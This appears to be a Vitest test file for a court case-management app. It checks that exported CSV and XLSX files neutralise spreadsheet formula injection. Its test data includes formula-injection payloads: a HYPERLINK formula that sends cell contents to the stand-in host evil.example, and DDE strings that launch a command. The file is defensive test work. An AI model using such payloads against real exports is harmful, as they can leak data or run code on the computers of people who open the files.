import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { openTestApp, type TestApp } from '../helpers/testApp';
import { casesInQuery } from '../helpers/inquiries';
import { makeId, sampleDraft } from '../helpers/drafts';
import { setStage } from '../../src-main/services/cases/stage';
import { SYSTEM_ACTOR } from '../../src-main/events/log';
import { toCsv } from '../../src-main/services/inquiries/requestFile';
import { readTable } from '../../src-main/services/uploads/table';
import { approverId } from '../helpers/approver';

// Spreadsheet formula injection (OWASP "CSV Injection"): the attack named debtors
// `=HYPERLINK(…)`, `+…`, `-…`, `@…`, and the query request csv wrote them as they were. Every text
// cell of every exported csv and xlsx now starts with an apostrophe when it would start a formula
// (docs/security.md). Reading our own file back gives the names as they were.

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"点此查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];

let t: TestApp;
const caseIds: number[] = [];
let batchId = 0;
beforeAll(async () => {
  t = openTestApp();
  t.app.clock.set('2026-11-22T02:00:00Z');
  t.user('query', ['docsQuery']);
  t.user('money', ['money']);
  for (const [i, name] of HOSTILE.entries()) {
    const c = await t.call(
      'cases.file',
      sampleDraft({
        title: { ...sampleDraft().title, number: `（2026）内0523民初${700 + i}号` },
        debtors: [{ kind: 'person', name, idNumber: makeId('19800101', 500 + i) }],
      }),
    );
    caseIds.push(c.id);
  }
  t.app.db.tx(() => caseIds.forEach((id) => setStage(t.app.db, SYSTEM_ACTOR, t.app.clock.now(), id, 'query', '测试')));
  batchId = (await t.call('inquiries.createBatch', { caseIds, categories: ['deposit'] }, 'query')).id;
});
/** The names as stored: the schema trims surrounding white space (a leading tab too). */
const STORED = HOSTILE.map((n) => n.trim());
afterAll(async () => t?.close());

describe('exports write formula-like text as text', () => {
  it('the query request csv: every such debtor name begins with an apostrophe', async () => {
    const file = (await t.call('inquiries.exportRequest', { batchId, format: 'csv' }, 'query')) as unknown as { path: string };
    const text = readFileSync(file.path, 'utf8');
    for (const name of STORED) {
      const quoted = `'${name}`;
      const cell = /[",\r\n]/.test(quoted) ? `"${quoted.replaceAll('"', '""')}"` : quoted;
      expect(text).toContain(`,${cell},`);
    }
    // Read back (as a feedback file made from it would be), the names are what was stored.
    const rows = (await readTable(Buffer.from(text), 'r.csv')).rows;
    expect(rows.slice(1).map((r) => r[3])).toEqual(STORED);
    // No cell of any line is one a spreadsheet would evaluate.
    for (const line of text.split('\r\n')) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the query request xlsx: text cells, apostrophe first, no formulas', async () => {
    const file = (await t.call('inquiries.exportRequest', { batchId, format: 'xlsx' }, 'query')) as unknown as { path: string };
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(readFileSync(file.path) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.worksheets[0]!.eachRow((row, n) => n > 1 && values.push(row.getCell(4).value));
    expect(values).toEqual(STORED.map((n) => `'${n}`));
    const xml = await (await import('jszip')).default.loadAsync(readFileSync(file.path)).then((z) => z.file('xl/worksheets/sheet1.xml')!.async('string'));
    expect(xml).not.toMatch(/<f>/);
  });

  it('the payout list for the finance office', async () => {
    const [caseId] = await casesInQuery(t, 1);
    await t.call('ledger.record', { kind: 'receipt', caseId: caseId!, amountFen: 50_000, on: '2026-11-20', source: 'voluntary' }, 'money');
    // The payee's name comes from the approved payout account: a formula there is what reaches the list.
    const chief = approverId(t);
    const { pendingAccount } = await t.call('ledger.requestPayoutAccount', { caseId: caseId!, bank: '中国农业银行开鲁支行', accountName: '=HYPERLINK("http://evil.example","领款")', accountNumber: '6228480000000000002', reason: '申请执行人书面申请变更账户' }, 'money');
    await t.call('ledger.decidePayoutAccount', { caseId: caseId!, requestId: pendingAccount!.id, approve: true }, '王局长');
    await t.call('ledger.record', { kind: 'payout', caseId: caseId!, amountFen: 50_000, on: '2026-11-22', approverId: chief, reference: '@1+1' }, 'money');
    const file = (await t.call('ledger.payoutList', { date: '2026-11-22' }, 'money')) as unknown as { path: string };
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(readFileSync(file.path) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(3).getCell(3).value).toBe('\'=HYPERLINK("http://evil.example","领款")');
    expect(ws.getRow(3).getCell(10).value).toBe("'@1+1");
    expect(ws.getRow(3).getCell(6).value).toBe('500.00'); // amounts untouched
  });

  it('neutralises a carriage return or tab at the start too, and reads our own csv back as it was', async () => {
    const csv = toCsv([['名称'], ['\r=1+1'], ['\t@x'], ['正常名称'], ['-5']]);
    expect(csv).toBe('\ufeff名称\r\n"\'\r=1+1"\r\n\'\t@x\r\n正常名称\r\n\'-5\r\n');
    const back = await readTable(Buffer.from(csv.slice(1)), 'x.csv');
    // A CR inside a cell is a line break after hygiene; the apostrophe is gone again.
    expect(back.rows.slice(1).map((r) => r[0])).toEqual(['=1+1', '@x', '正常名称', '-5']);
  });
});
